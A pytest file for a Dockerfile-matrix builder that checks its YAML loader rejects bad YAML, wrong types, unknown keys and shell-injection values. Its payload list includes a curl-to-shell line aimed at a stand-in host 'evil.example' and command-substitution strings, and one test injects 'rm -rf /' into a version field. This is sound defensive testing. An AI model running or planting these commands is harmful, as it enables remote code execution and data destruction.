"""Hostile input: bad YAML, wrong types, unknown keys, and shell metacharacters in every string.

Every case must end in MatrixError (one line per problem naming file and key) and never in
another exception, a traceback, or a rendered Dockerfile.
"""

from __future__ import annotations

import copy

import pytest
from click.testing import CliRunner

from builder.cli import cli
from builder.errors import MatrixError
from builder.matrix import load_matrix
from tests.matrix_samples import DLC, NVIDIA, SOURCE, dump, matrix

# The last one: a bare trailing newline, which a regex ending in `$` lets through.
PAYLOADS = ["; touch /tmp/pwned #", "$(id)`id`", "\nRUN curl evil.example | sh", "' \" \\", "\n"]


def _valid(tmp_path):
    (tmp_path / "code").mkdir(exist_ok=True)
    (tmp_path / "code" / "train.py").write_text("print('train')\n")
    dlc = dict(DLC, code={"dir": "code", "program": "train.py"}, env={"MY_FLAG": "1"},
               labels={"org.opencontainers.image.vendor": "Team"}, description="A DLC extension",
               tags=["{name}", "v{pytorch}"], repository="team/{flavor}")
    nv = copy.deepcopy(NVIDIA)
    nv["waivers"] = {"nccl-older-than-base": "pinned for a known regression in 2.22"}
    nv["components"]["nccl"] = "2.19.3"
    nv["cuda_archs"] = ["80", "90"]
    return matrix(nv, SOURCE, dlc, checksums={"efa_installer": {"1.35.0": "a" * 64}},
                  defaults={"label_prefix": "com.example", "cuda_archs": ["80", "90"]})


def _string_leaves(node, path=()):
    """Yield (path, is_key) for every string value and every user-chosen mapping key."""
    if isinstance(node, dict):
        for key, value in node.items():
            if path and path[-1] in ("labels", "env", "bases", "efa_installer", "waivers"):
                yield path + (key,), True
            yield from _string_leaves(value, path + (key,))
    elif isinstance(node, list):
        for i, value in enumerate(node):
            yield from _string_leaves(value, path + (i,))
    elif isinstance(node, str):
        yield path, False


def _mutate(data, path, is_key, payload):
    data = copy.deepcopy(data)
    parent = data
    for step in path[:-1]:
        parent = parent[step]
    last = path[-1]
    if is_key:
        parent[f"{last}{payload}"] = parent.pop(last)
    else:
        parent[last] = parent[last] + payload
    return data


def test_the_base_sample_is_valid(tmp_path, write_matrix):
    load_matrix(write_matrix(dump(_valid(tmp_path))))


def test_shell_metacharacters_are_rejected_in_every_string_field(tmp_path, write_matrix):
    data = _valid(tmp_path)
    leaves = list(_string_leaves(data))
    assert len(leaves) > 60  # the walk really covers the matrix
    accepted = []
    for path, is_key in leaves:
        if path[-1] == "schema":
            continue
        for payload in PAYLOADS:
            mutated = _mutate(data, path, is_key, payload)
            try:
                load_matrix(write_matrix(dump(mutated)))
            except MatrixError as exc:
                assert all("matrix.yaml" in str(p) for p in exc.problems)
                continue
            accepted.append((path, payload))
    assert not accepted, f"accepted hostile values at: {accepted[:10]}"


@pytest.mark.parametrize("text,expect", [
    ("images: [\n", "invalid YAML"),
    ("images:\n  - name: a\n    name: b\n", "duplicate key 'name'"),
    ("- just\n- a list\n", "must be a mapping"),
    ("imagse: []\n", "unknown top-level key (did you mean 'images'?)"),
    ("images: []\n", "needs a non-empty list"),
    ("schema: 2\nimages: [{name: a, flavor: dlc}]\n", "unsupported schema version"),
])
def test_broken_files_give_one_clear_line(write_matrix, text, expect):
    with pytest.raises(MatrixError) as exc:
        load_matrix(write_matrix(text))
    assert expect in str(exc.value)
    assert "matrix.yaml" in str(exc.value)


@pytest.mark.parametrize("mutate,expect", [
    (lambda e: e["components"].__setitem__("efa", 1.35), "is a YAML number: quote versions"),
    (lambda e: e["components"].__setitem__("efa", 135), "must be a quoted version string, not int"),
    (lambda e: e["components"].__setitem__("nccl_test", "2.13.10"), "unknown component (did you mean 'nccl_tests'?)"),
    (lambda e: e.__setitem__("stanza", {"xformers": True}), "unknown key (did you mean 'stanzas'?)"),
    (lambda e: e.__setitem__("stanzas", {"xformer": True}), "unknown stanza (did you mean 'xformers'?)"),
    (lambda e: e.__setitem__("stanzas", {"smddp": True}), "not a stanza of flavor nvidia"),
    (lambda e: e.__setitem__("stanzas", {"openssh": "yes"}), "must be true or false"),
    (lambda e: e.__setitem__("components", ["efa"]), "must map component names to versions"),
    (lambda e: e.__setitem__("tags", "latest"), "must be a list of tag templates"),
    (lambda e: e.__setitem__("tags", ["{nmae}"]), "unknown placeholder {nmae} (did you mean 'name'?)"),
    (lambda e: e.__setitem__("tags", ["{name.__class__}"]), "braces may only wrap a placeholder name"),
    (lambda e: e.__setitem__("base", "ngcc"), "unknown base 'ngcc' (did you mean 'ngc'?)"),
    (lambda e: e.__setitem__("flavor", "nvida"), "(did you mean 'nvidia'?)"),
    (lambda e: e.__setitem__("cuda_archs", [80]), "quoted SM numbers"),
    (lambda e: e.__setitem__("size_baseline", "big"), "a size like"),
    (lambda e: e.__setitem__("axes", {"efa": "1.38.1"}), "must be a non-empty list"),
    (lambda e: e.__setitem__("axes", {"efq": ["1.38.1"]}), "unknown axis (did you mean 'efa'?)"),
])
def test_wrong_types_and_unknown_keys(write_matrix, mutate, expect):
    entry = copy.deepcopy(NVIDIA)
    mutate(entry)
    with pytest.raises(MatrixError) as exc:
        load_matrix(write_matrix(dump(matrix(entry))))
    assert expect in str(exc.value)


def test_url_rules(write_matrix):
    data = matrix(NVIDIA)
    data.setdefault("sources", {})["efa_installer"] = "http://efa-installer.amazonaws.com/aws-efa-installer-{version}.tar.gz"
    with pytest.raises(MatrixError) as exc:
        load_matrix(write_matrix(dump(data)))
    assert "must use https://" in str(exc.value)
    data.setdefault("sources", {})["efa_installer"] = "https://efa-installer.amazonaws.com/efa-{version}.tgz"
    with pytest.raises(MatrixError) as exc:
        load_matrix(write_matrix(dump(data)))
    assert "must end in aws-efa-installer-1.35.0.tar.gz" in str(exc.value)
    data.setdefault("sources", {})["efa_installer"] = "http://127.0.0.1:8000/aws-efa-installer-{version}.tar.gz"
    assert load_matrix(write_matrix(dump(data))).get("nv").sources["efa_installer"].startswith("http://127.0.0.1")


def test_cli_reports_matrix_errors_without_traceback(write_matrix):
    entry = copy.deepcopy(NVIDIA)
    entry["components"]["efa"] = "1.35.0; rm -rf /"
    path = write_matrix(dump(matrix(entry)))
    result = CliRunner().invoke(cli, ["--matrix", str(path), "render", "--all", "--out", str(path.parent / "out")])
    assert result.exit_code == 2
    assert "Traceback" not in result.output
    assert "components.efa" in result.output and "is not a valid version" in result.output
    assert not (path.parent / "out").exists()  # nothing half-written


def test_missing_matrix_file_is_one_line(tmp_path):
    result = CliRunner().invoke(cli, ["--matrix", str(tmp_path / "nope.yaml"), "list"])
    assert result.exit_code == 2
    assert result.output.strip().count("\n") == 0
    assert "file not found" in result.output
